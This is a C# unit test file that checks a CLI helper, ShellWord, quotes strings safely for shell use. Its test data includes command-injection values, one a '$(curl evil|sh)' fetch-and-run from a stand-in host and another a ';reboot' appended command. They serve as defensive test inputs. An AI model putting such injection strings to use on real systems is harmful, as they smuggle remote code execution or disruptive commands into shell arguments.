using Sluice.Cli.Output;

namespace Sluice.Cli.Tests.Output;

public sealed class ShellWordTests
{
    [Theory]
    [InlineData("main@sha1:77e0b5d2", "main@sha1:77e0b5d2")]
    [InlineData("sha256:01@sha256:02", "sha256:01@sha256:02")]
    [InlineData("feature/a+b=c,d%_-.", "feature/a+b=c,d%_-.")]
    [InlineData("$(curl evil|sh)@sha1:aa", "'$(curl evil|sh)@sha1:aa'")]
    [InlineData("it's;reboot", @"'it'\''s;reboot'")]
    [InlineData("a b", "'a b'")]
    [InlineData("\u00e4", "'\u00e4'")]
    [InlineData("~", "'~'")]
    [InlineData("", "''")]
    public void What_a_shell_could_take_for_more_than_a_word_is_quoted(string text, string word) => ShellWord.Of(text).Should().Be(word);
}
